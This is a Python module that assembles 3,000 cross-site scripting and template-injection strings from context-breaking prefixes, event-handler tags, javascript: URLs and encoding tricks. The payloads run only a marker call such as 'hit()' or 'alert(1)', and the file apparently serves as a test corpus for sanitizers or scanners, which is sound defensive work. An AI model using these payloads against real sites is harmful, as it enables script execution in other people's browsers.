"""Three thousand strings made to run a script where a page shows them, put together from their parts."""

import re
from collections.abc import Callable, Iterator, Sequence
from hashlib import sha256
from html import escape
from itertools import product
from urllib.parse import quote

COUNT = 3000
RUN = "hit()"
# What comes before: the way out of the place where a page might have put the string.
BREAKS = (
    *("", '">', "'>", '" ', "' ", "`>", "</title>", "</textarea>", "</option></select>", "</script>", "</style>"),
    *("-->", "]]>", '\\">', "</p></div>", "&quot;>", "</template>"),
)
TAGS = (
    "<script>RUN</script>",
    "<script src=data:text/javascript,RUN></script>",
    "<img src=x onerror=RUN>",
    '<img src="x" onerror="RUN" alt="',
    "<image href=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<body onload=RUN>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    "<object data='javascript:RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<a href='javascript:RUN' autofocus onfocus=RUN>x</a>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN formaction='javascript:RUN'>",
    "<form action='javascript:RUN'><input type=submit autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>",
    "<style onload=RUN></style>",
    "<link rel=stylesheet href='data:text/css,' onload=RUN>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href='javascript:RUN//'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    'x" autofocus onfocus=RUN x="',
    "x' autofocus onfocus=RUN x='",
    "javascript:RUN",
    "{{ cycler.__init__.__globals__ }}{% for x in (1,) %}RUN{% endfor %}",
    "${RUN}#{RUN}<%= RUN %>[[RUN]]",
)
CALLS = ("hit()", "hit`1`", "hit`2`", "alert(1)", "top['hit']()", "self.hit()", "globalThis.hit(1)", "(hit)()")
PLAIN = (lambda text: text, lambda text: re.sub(r"</?[a-z]+", lambda tag: tag[0].swapcase(), text))
CODED = (
    escape,
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "&#60").replace(">", "&#x3e;"),
)


def strings() -> list[str]:
    """Return COUNT different strings, the same ones every time, each printable and at most 300 characters long.

    One in six is written in a code that only a page which decodes too much would run.
    """
    plain = _chosen(PLAIN)[: COUNT - COUNT // 6]
    known = {text.casefold() for text in plain}
    coded = [text for text in _chosen(CODED) if text.casefold() not in known][: COUNT // 6]
    assert len(plain) + len(coded) == COUNT
    return sorted((*plain, *coded), key=lambda text: _shuffled(text[::-1]))


def _chosen(writings: Sequence[Callable[[str], str]]) -> list[str]:
    unlike = {text.casefold(): text for text in _every(writings)}  # names that differ in case alone are one name here
    return sorted(unlike.values(), key=_shuffled)


def _every(writings: Sequence[Callable[[str], str]]) -> Iterator[str]:
    for start, tag, call, write in product(BREAKS, TAGS, CALLS, writings):
        text = " ".join(write(start + tag.replace("RUN", call)).split())
        if text.isprintable() and len(text) <= 300:
            yield text


def _shuffled(text: str) -> bytes:
    return sha256(text.encode()).digest()
